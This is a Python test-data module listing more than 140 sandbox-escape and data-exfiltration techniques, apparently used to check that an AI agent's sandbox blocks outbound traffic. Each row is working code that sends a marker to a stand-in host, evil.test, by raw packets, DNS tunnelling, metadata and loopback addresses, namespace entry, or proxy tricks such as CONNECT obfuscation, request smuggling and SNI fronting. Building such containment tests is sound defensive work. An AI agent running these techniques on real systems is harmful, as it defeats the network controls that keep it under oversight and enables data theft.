# ruff: noqa: E501 - a row is a line: what is sent is seen in one piece
"""Ways out of a sandbox that have been tried on others, one a row: what an agent does to get a marker to a server that nobody listed (S2).

A row's code runs twice: in a real sandbox, where its marker must be heard nowhere, and outside of it, where the same code must be heard;
so each row is able to fail. `HERE` is what the code may use; `M` is its marker. `opens`: what it needs cannot be listened to from here, so
that it must open outside and not inside. `anywhere`: the marker may not reach a listed host either, since it means another one behind it.

    EVIL  11.22.33.3   evil.test     listed by nobody
          11.22.33.2   allowed.test:8443, a.wild.test:80, front.test   listed; denied.test is the same address
          private.test, metadata.test, loopback.test: listed, with addresses that nobody may reach
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Technique:
    """One row."""

    name: str
    code: str
    opens: bool = False
    anywhere: bool = False


HERE = r"""
import ctypes, errno, os, socket, ssl, struct, urllib.request
from concurrent.futures import ThreadPoolExecutor
PLACE = os.environ["HTTPS_PROXY"].removeprefix("http://").rstrip("/").split(":")
EVIL, EVIL6, PUBLIC = "11.22.33.3", "2606:4700:aa::3", "1.1.1.1"
W = 2.0
libc = ctypes.CDLL(None, use_errno=True)

def sent(family, kind, address, data, proto=0, options=()):
    with socket.socket(family, kind, proto) as sock:
        sock.settimeout(W)
        for option in options:
            sock.setsockopt(*option)
        sock.connect(address)
        sock.send(data)
    return "sent"

def tcp(host, port, data, **more):
    return sent(socket.AF_INET, socket.SOCK_STREAM, (host, port), data, **more)

def udp(host, port, data, **more):
    return sent(socket.AF_INET, socket.SOCK_DGRAM, (host, port), data, **more)

def raw(number, data, host=EVIL):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, number) as sock:
        sock.sendto(data, (host, 0))
    return "sent"

def packet(kind, data):
    with socket.socket(socket.AF_PACKET, kind, socket.htons(0x0800)) as sock:
        sock.bind((device(), 0x0800))
        sock.sendto(data, (device(), 0x0800, 0, 0, b"\xff" * 6))
    return "sent"

def ip_packet(number, data, host=EVIL):
    head = struct.pack("!BBHHHBBH4s4s", 69, 0, 20 + len(data), 1, 0, 64, number, 0, socket.inet_aton("11.22.33.1"), socket.inet_aton(host))
    total = sum(struct.unpack("!10H", head))
    total = (total >> 16) + (total & 0xFFFF)
    return head[:10] + struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF) + head[12:] + data

def query(*labels, kind=16):
    name = b"".join(bytes((len(each),)) + each for each in labels)
    return struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + name + b"\0" + struct.pack("!HH", kind, 1)

def opened(*kind):
    socket.socket(*kind).close()
    return "sent"

def system(number, *arguments):
    found = libc.syscall(number, *arguments)
    if found < 0:
        raise OSError(ctypes.get_errno(), "syscall")
    return found

def written(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "ab") as file:
        file.write(data)
    return "sent"

def entered(path, act):
    # In a thread of its own, which ends in that network.
    def run():
        with open(path) as file:
            if libc.setns(file.fileno(), 0x40000000) != 0:
                raise OSError(ctypes.get_errno(), "setns")
        return act()
    with ThreadPoolExecutor(1) as pool:
        return pool.submit(run).result()

def new_link():
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as sock:
        sock.settimeout(W)
        name = b"wayout0\0"
        attribute = struct.pack("=HH", 4 + len(name), 3) + name
        kind = struct.pack("=HH", 9, 1) + b"veth\0\0\0\0"
        attribute += struct.pack("=HH", 4 + len(kind), 18) + kind
        body = struct.pack("=BxHiII", 0, 0, 0, 0, 0) + attribute
        sock.send(struct.pack("=IHHII", 16 + len(body), 16, 0x605, 1, 0) + body)
        code = struct.unpack_from("=i", sock.recv(4096), 16)[0]
        if code:
            raise OSError(-code, "netlink")
    return "sent"

def door(head, *then):
    # What a client of a proxy does: a head, and when an answer to that has come, more.
    with socket.create_connection((PLACE[0], int(PLACE[1])), 8) as sock:
        sock.sendall(head)
        got = b""
        for more in then:
            while b"\r\n\r\n" not in got:
                piece = sock.recv(4096)
                if not piece:
                    return got[:80].decode("latin-1")
                got += piece
            sock.sendall(more)
        sock.settimeout(1)
        try:
            while piece := sock.recv(4096):
                got += piece
        except OSError:
            pass
        return got[:80].decode("latin-1")

def connect(target, data, extra=b""):
    target = target if isinstance(target, bytes) else target.encode()
    return door(b"CONNECT " + target + b" HTTP/1.1\r\nHost: " + target + b"\r\n" + extra + b"\r\n", data)

def get(url, marker, extra=b"", method=b"GET", body=b""):
    url = url if isinstance(url, bytes) else url.encode()
    return door(method + b" " + url + b" HTTP/1.1\r\nHost: front.test\r\nx-m: " + marker + b"\r\n" + extra + b"\r\n" + body)

def redirected(marker):
    handler = urllib.request.ProxyHandler({"http": "http://" + ":".join(PLACE)})
    with urllib.request.build_opener(handler).open("http://a.wild.test/to/" + marker.decode(), timeout=8) as answer:
        return str(answer.status)

def queued(data):
    number = libc.msgget(0x6D6F6F72, 0o666)
    if number < 0 or libc.msgsnd(number, struct.pack("q", 1) + data, len(data), 0o4000) < 0:
        raise OSError(ctypes.get_errno(), "message queue")
    return "sent"

def device():
    names = [name for _, name in socket.if_nameindex()]
    return "near" if "near" in names else names[0]

def client_hello(name):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    said = ssl.MemoryBIO()
    link = context.wrap_bio(ssl.MemoryBIO(), said, server_hostname=name)
    try:
        link.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return said.read()

def extended(hello, kind, value):
    more = struct.pack("!HH", kind, len(value)) + value
    body = hello[9:]
    at = 35 + body[34]
    at += 2 + int.from_bytes(body[at : at + 2], "big")
    at += 1 + body[at]
    body = body[:at] + struct.pack("!H", len(body) - at - 2 + len(more)) + body[at + 2 :] + more
    return b"\x16\x03\x01" + struct.pack("!H", len(body) + 4) + b"\x01" + len(body).to_bytes(3, "big") + body

def cut(hello, size):
    message = hello[5:]
    pieces = [message[at : at + size] for at in range(0, len(message), size)]
    return b"".join(b"\x16\x03\x01" + struct.pack("!H", len(each)) + each for each in pieces)
"""

PACKETS = (
    Technique("TCP to 443", "tcp(EVIL, 443, M)"),
    Technique("TCP to 80", "tcp(EVIL, 80, M)"),
    Technique("TCP to 22", "tcp(EVIL, 22, M)"),
    Technique("TCP to 25", "tcp(EVIL, 25, M)"),
    Technique("TCP to an address of the internet", "tcp(PUBLIC, 443, M)"),
    Technique("TCP to a private address", "tcp('10.9.8.2', 80, M)"),
    Technique("TCP to the metadata address", "tcp('169.254.169.254', 80, M)"),
    Technique("TCP to a listed host past the proxy", "tcp('11.22.33.2', 25, M)"),
    Technique(
        "DNS over TCP", "tcp(EVIL, 53, struct.pack('!H', len(query(M, b'evil', b'test'))) + query(M, b'evil', b'test'))"
    ),
    Technique("DNS over TLS' port", "tcp(EVIL, 853, M)"),
    Technique(
        "TCP from a port of one's own", "tcp(EVIL, 443, M, options=((socket.SOL_SOCKET, socket.SO_REUSEADDR, 1),))"
    ),
    Technique("TCP without a route", "tcp(EVIL, 443, M, options=((socket.SOL_SOCKET, socket.SO_DONTROUTE, 1),))"),
    Technique(
        "TCP bound to a device",
        "tcp(EVIL, 443, M, options=((socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device().encode()),))",
    ),
    Technique("TCP with a mark", "tcp(EVIL, 443, M, options=((socket.SOL_SOCKET, socket.SO_MARK, 1),))"),
    Technique(
        "UDP by a route of one's own",
        "udp(EVIL, 9999, M, options=((socket.IPPROTO_IP, socket.IP_OPTIONS, b'\\x83\\7\\4' + socket.inet_aton(EVIL) + b'\\1'),))",
    ),
    Technique("TCP over several paths", "sent(socket.AF_INET, socket.SOCK_STREAM, (EVIL, 443), M, 262)"),
    Technique("UDP", "udp(EVIL, 9999, M)"),
    Technique("QUIC", "udp(EVIL, 443, b'\\xc0\\0\\0\\0\\1' + M)"),
    Technique("NTP", "udp(EVIL, 123, b'\\x1b' + M)"),
    Technique("syslog", "udp(EVIL, 514, b'<13>' + M)"),
    Technique("SNMP", "udp(EVIL, 161, M)"),
    Technique("TFTP", "udp(EVIL, 69, b'\\0\\1' + M + b'\\0octet\\0')"),
    Technique("WireGuard", "udp(EVIL, 51820, b'\\1\\0\\0\\0' + M)"),
    Technique("UDP-Lite", "sent(socket.AF_INET, socket.SOCK_DGRAM, (EVIL, 9999), M, 136)"),
    Technique("a DNS query", "udp(EVIL, 53, query(M, b'evil', b'test', kind=1))"),
    Technique("a DNS query for TXT", "udp(EVIL, 53, query(M, b'evil', b'test'))"),
    Technique("DNS with long labels", "udp(EVIL, 53, query(M + b'x' * 40, b'y' * 63, b'z' * 63, b'evil', b'test'))"),
    Technique("DNS to a public resolver", "udp(PUBLIC, 53, query(M, b'evil', b'test'))"),
    Technique("the system's resolver", "socket.getaddrinfo(M.decode() + '.evil.test', 80)"),
    Technique("a multicast DNS query", "udp('224.0.0.251', 5353, query(M, b'local'))"),
    Technique("SSDP", "udp('239.255.255.250', 1900, b'M-SEARCH * HTTP/1.1\\r\\nST: ' + M + b'\\r\\n\\r\\n')"),
    Technique("all hosts of the link", "udp('224.0.0.1', 9999, M)"),
    Technique("a broadcast", "udp('255.255.255.255', 67, M, options=((socket.SOL_SOCKET, socket.SO_BROADCAST, 1),))"),
    Technique(
        "a broadcast of the network",
        "udp('11.22.33.255', 67, M, options=((socket.SOL_SOCKET, socket.SO_BROADCAST, 1),))",
    ),
    Technique("UDP to a link-local address", "udp('169.254.7.7', 9999, M)"),
    Technique("raw ICMP", "raw(1, b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0' + M)"),
    Technique("raw IP", "raw(255, ip_packet(17, struct.pack('!4H', 5, 9999, 8 + len(M), 0) + M))"),
    Technique("raw GRE", "raw(47, b'\\0\\0\\x08\\0' + M)"),
    Technique("raw IP in IP", "raw(4, ip_packet(17, M))"),
    Technique("raw ESP", "raw(50, M)"),
    Technique("raw UDP", "raw(17, struct.pack('!4H', 5, 9999, 8 + len(M), 0) + M)"),
    Technique("raw TCP", "raw(6, struct.pack('!HHIIBBHHH', 5, 443, 1, 0, 80, 2, 1024, 0, 0) + M)"),
    Technique("raw SCTP", "raw(132, struct.pack('!HHII', 5, 9999, 0, 0) + M)"),
    Technique("a frame", "packet(socket.SOCK_RAW, b'\\xff' * 6 + b'\\2' * 6 + b'\\x08\\0' + ip_packet(17, M))"),
    Technique("a packet past the IP stack", "packet(socket.SOCK_DGRAM, ip_packet(17, M))"),
    Technique("a socket of the network driver (XDP)", "opened(44, socket.SOCK_RAW, 0)", opens=True),
    Technique("TCP over IPv6", "sent(socket.AF_INET6, socket.SOCK_STREAM, (EVIL6, 443), M)"),
    Technique("UDP over IPv6", "sent(socket.AF_INET6, socket.SOCK_DGRAM, (EVIL6, 53), M)"),
    Technique("IPv6 to the metadata address", "sent(socket.AF_INET6, socket.SOCK_DGRAM, ('fd00:ec2::254', 80), M)"),
    Technique(
        "IPv6 to all nodes of the link",
        "sent(socket.AF_INET6, socket.SOCK_DGRAM, ('ff02::1', 9999, 0, socket.if_nametoindex(device())), M)",
    ),
    Technique(
        "IPv6 within the link",
        "sent(socket.AF_INET6, socket.SOCK_DGRAM, ('fe80::7', 9999, 0, socket.if_nametoindex(device())), M)",
    ),
    Technique("IPv4 mapped into IPv6", "sent(socket.AF_INET6, socket.SOCK_STREAM, ('::ffff:11.22.33.3', 443), M)"),
    Technique("IPv4 translated by NAT64", "sent(socket.AF_INET6, socket.SOCK_DGRAM, ('64:ff9b::b16:2103', 443), M)"),
    Technique("IPv6 in 6to4", "sent(socket.AF_INET6, socket.SOCK_DGRAM, ('2002:b16:2103::1', 443), M)"),
    Technique("an interface of one's own", "new_link()", opens=True),
    Technique("another network by its file", "entered(NEAR, lambda: tcp(EVIL, 443, M))"),
)

MACHINE = (
    Technique("TCP to the host's loopback", "tcp('127.0.0.1', 7777, M)"),
    Technique("TCP to another address of loopback", "tcp('127.0.0.2', 7777, M)"),
    Technique("TCP to 0.0.0.0", "tcp('0.0.0.0', 7777, M)"),
    Technique("UDP to the host's loopback", "udp('127.0.0.1', 7777, M)"),
    Technique("TCP to ::1", "sent(socket.AF_INET6, socket.SOCK_STREAM, ('::1', 7777), M)"),
    Technique("TCP to the host's own address", "tcp('11.22.33.1', 7777, M)"),
    Technique("an abstract socket", "sent(socket.AF_UNIX, socket.SOCK_STREAM, '\\0way-out-canary', M)"),
    Technique("an abstract datagram socket", "sent(socket.AF_UNIX, socket.SOCK_DGRAM, '\\0way-out-canary-2', M)"),
    Technique("a socket in the host's files", "sent(socket.AF_UNIX, socket.SOCK_STREAM, DROP + '/socket', M)"),
    Technique("a pipe in the host's files", "os.write(os.open(DROP + '/pipe', os.O_WRONLY | os.O_NONBLOCK), M)"),
    Technique("a file of the host", "written(DROP + '/file', M)"),
    Technique("a file by the root of one on the way", "written(f'/proc/{HOLDER}/root' + DROP + '/way', M)"),
    Technique("shared memory", "written('/dev/shm/' + M.decode(), M)"),
    Technique("a message queue", "queued(M)"),
    Technique("a netlink socket of others", "sent(socket.AF_NETLINK, socket.SOCK_DGRAM, (7777, 0), struct.pack('=IHHII', 16 + len(M), 16, 0, 0, 0) + M, 2)"),
    Technique("the hypervisor's socket", "opened(40, socket.SOCK_STREAM, 0)", opens=True),
    Technique("a ring of system calls (io_uring)", "system(425, 1, bytes(120)) and 'sent'", opens=True),
    Technique("a frame of any kind", "opened(17, socket.SOCK_RAW, socket.htons(3))", opens=True),
    Technique("a packet's filter (BPF)", "system(321 if os.uname().machine == 'x86_64' else 280, 0, struct.pack('=4I', 2, 4, 4, 1) + bytes(100), 116) and 'sent'", opens=True),
)  # fmt: skip

PROXY = (
    Technique("CONNECT to a host that is not listed", "connect('evil.test:443', M)"),
    Technique("CONNECT with the marker in a name", "connect(M + b'.evil.test:443', M)"),
    Technique("CONNECT to an address", "connect('11.22.33.3:443', M)"),
    Technique("CONNECT to a decimal address", "connect('185999619:443', M)"),
    Technique("CONNECT to a hexadecimal address", "connect('0xb162103:443', M)"),
    Technique("CONNECT to an octal address", "connect('013.026.041.03:443', M)"),
    Technique("CONNECT to a short address", "connect('11.1450243:443', M)"),
    Technique("CONNECT to an IPv6 address", "connect('[2606:4700:aa::3]:443', M)"),
    Technique("CONNECT to a mapped address", "connect('[::ffff:11.22.33.3]:443', M)"),
    Technique("CONNECT to another port", "connect('allowed.test:25', M)"),
    Technique("CONNECT to SSH", "connect('allowed.test:22', b'SSH-2.0-' + M + b'\\r\\n')"),
    Technique("CONNECT to a listed address by another name", "connect('denied.test:25', M)"),
    Technique("CONNECT with a trailing dot", "connect('evil.test.:443', M)"),
    Technique("CONNECT with a user part", "connect('front.test:443@evil.test:443', M)"),
    Technique("CONNECT with an escape in the host", "connect('evil%2etest:443', M)"),
    Technique("CONNECT with wide letters", "connect('\\uff45vil.test:443'.encode(), M)"),
    Technique("CONNECT with wide digits", "connect('\\u2460\\u2460.22.33.3:443'.encode(), M)"),
    Technique("CONNECT with a NUL", "connect(b'evil.test\\0.wild.test:80', M)"),
    Technique("CONNECT with a line end in the target", "connect(b'front.test:443\\r\\nHost: evil.test:443', M)"),
    Technique("CONNECT with two targets", "connect('front.test:443 evil.test:443', M)"),
    Technique("CONNECT with another Host", "door(b'CONNECT evil.test:443 HTTP/1.1\\r\\nHost: front.test:443\\r\\n\\r\\n', M)"),
    Technique(
        "CONNECT with another Host, the other way round",
        "door(b'CONNECT evil.test:443 HTTP/1.1\\r\\nHost: front.test:443\\r\\nX-Forwarded-Host: front.test\\r\\n\\r\\n', M)",
    ),
    Technique("CONNECT behind a refused one", "door(b'CONNECT denied.test:443 HTTP/1.1\\r\\n\\r\\nCONNECT evil.test:443 HTTP/1.1\\r\\n\\r\\n' + M)"),
    Technique("CONNECT behind bare line feeds", "door(b'CONNECT evil.test:443 HTTP/1.1\\nHost: front.test:443\\n\\n' + M + b'\\r\\n\\r\\n')"),
    Technique("CONNECT with a folded header", "door(b'CONNECT evil.test:443 HTTP/1.1\\r\\nHost:\\r\\n front.test:443\\r\\n\\r\\n', M)"),
    Technique("CONNECT with a token of one's own", "connect('evil.test:443', M, b'Proxy-Authorization: Bearer a.b\\r\\n')"),
    Technique("CONNECT that says it comes from the platform", "connect('evil.test:443', M, b'x-moorage-tenant: root\\r\\nForwarded: for=127.0.0.1\\r\\n')"),
    Technique("CONNECT to a listed name with a metadata address", "connect('metadata.test:80', M)"),
    Technique("CONNECT to a listed name with a private address", "connect('private.test:80', M)"),
    Technique("CONNECT to a listed name with a loopback address", "connect('loopback.test:80', M)"),
    Technique("a plain request to a host that is not listed", "get('http://evil.test/', M)"),
    Technique("a plain request to the metadata address", "get('http://169.254.169.254/latest/meta-data/', M)"),
    Technique("a plain request to a listed name with a metadata address", "get('http://metadata.test/', M)"),
    Technique("a plain request with a user part", "get('http://front.test@evil.test/', M)"),
    Technique("a plain request with a backslash", "get('http://evil.test\\\\@front.test/', M)"),
    Technique("a plain request with another Host", "door(b'GET http://evil.test/ HTTP/1.1\\r\\nHost: front.test\\r\\nx-m: ' + M + b'\\r\\n\\r\\n')"),
    Technique("a request without a target, by its Host", "door(b'GET /' + M + b' HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')"),
    Technique("a request of HTTP 0.9", "door(b'GET http://evil.test/' + M + b'\\r\\n\\r\\n')"),
    Technique("a request for https in the clear", "get('https://evil.test:443/', M)"),
    Technique("a request for ftp", "get('ftp://evil.test:443/', M)"),
    Technique("a websocket", "get('http://evil.test/', M, b'Connection: Upgrade\\r\\nUpgrade: websocket\\r\\n')"),
    Technique("a websocket's own scheme", "get('ws://evil.test:80/', M)"),
    Technique("an upgrade to HTTP/2", "get('http://evil.test/', M, b'Connection: Upgrade, HTTP2-Settings\\r\\nUpgrade: h2c\\r\\nHTTP2-Settings: AAMAAABk\\r\\n')"),
    Technique("HTTP/2 to the door itself", "door(b'PRI * HTTP/2.0\\r\\nHost: evil.test\\r\\n\\r\\nSM\\r\\n\\r\\n' + M)"),
    Technique("TRACE", "get('http://evil.test/', M, method=b'TRACE')"),
    Technique("a second request behind the first", "door(b'GET http://front.test/ HTTP/1.1\\r\\nHost: front.test\\r\\n\\r\\nGET http://evil.test/' + M + b' HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')", anywhere=True),
    Technique("a second request behind a body", "get('http://front.test/', b'x', b'Content-Length: 2\\r\\n', b'POST', b'okGET /' + M + b' HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')", anywhere=True),
    Technique("a second request behind chunks", "get('http://front.test/', b'x', b'Transfer-Encoding: chunked\\r\\n', b'POST', b'0\\r\\n\\r\\nGET /' + M + b' HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')", anywhere=True),
    Technique("a body of two lengths", "get('http://front.test/', b'x', b'Content-Length: 5\\r\\nTransfer-Encoding: chunked\\r\\n', b'POST', b'0\\r\\n\\r\\nGET /' + M + b' HTTP/1.1\\r\\n\\r\\n')", anywhere=True),
    Technique("a body of two other lengths", "get('http://front.test/', b'x', b'Content-Length: 0\\r\\nContent-Length: 90\\r\\n', b'POST', b'GET /' + M + b' HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')", anywhere=True),
    Technique("chunks behind a coding of one's own", "get('http://front.test/', b'x', b'Transfer-Encoding: xchunked\\r\\nContent-Length: 0\\r\\n', b'POST', b'GET /' + M + b' HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')", anywhere=True),
    Technique("chunks with an extension", "get('http://front.test/', b'x', b'Transfer-Encoding: chunked\\r\\n', b'POST', b'0;' + M + b'\\r\\n\\r\\n')", anywhere=True),
    Technique("a trailer", "get('http://front.test/', b'x', b'Transfer-Encoding: chunked\\r\\n', b'POST', b'0\\r\\nHost: ' + M + b'.evil.test\\r\\n\\r\\n')", anywhere=True),
    Technique("TLS to another server (SNI)", "connect('front.test:443', client_hello(M.decode() + '.evil.test'))", anywhere=True),
    Technique("TLS to another server, on another port", "connect('allowed.test:8443', client_hello(M.decode() + '.evil.test'))", anywhere=True),
    Technique("TLS to another server, in many records", "connect('front.test:443', cut(client_hello(M.decode() + '.evil.test'), 900))", anywhere=True),
    Technique("TLS to no server", "connect('front.test:443', extended(client_hello(None), 0xFAFA, M))", anywhere=True),
    Technique("TLS with a hidden name (ECH)", "connect('front.test:443', extended(client_hello('front.test'), 0xFE0D, b'\\0\\0\\1\\0\\1\\7\\0\\0' + M))", anywhere=True),
    Technique("TLS with two names", "connect('front.test:443', extended(client_hello('front.test'), 0, struct.pack('!HBH', 3 + len(M), 0, len(M)) + M))", anywhere=True),
    Technique("plain http in a tunnel to 443", "connect('front.test:443', b'GET /' + M + b' HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')", anywhere=True),
    Technique("HTTP/2 without TLS in a tunnel to 443", "connect('front.test:443', b'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n' + M)", anywhere=True),
    Technique("SSH in a tunnel to 443", "connect('front.test:443', b'SSH-2.0-' + M + b'\\r\\n')", anywhere=True),
    Technique("bytes in a tunnel to 443", "connect('front.test:443', b'\\0' + M)", anywhere=True),
    Technique("a half of TLS, then an end", "connect('front.test:443', client_hello('front.test')[:60] + M[:0] + M)", anywhere=True),
    Technique("a tunnel within a tunnel", "door(b'CONNECT front.test:443 HTTP/1.1\\r\\n\\r\\n', b'CONNECT evil.test:443 HTTP/1.1\\r\\n\\r\\n' + M)", anywhere=True),
    Technique("a server that redirects", "redirected(M)"),
)  # fmt: skip

ROWS = (*PACKETS, *MACHINE, *PROXY)
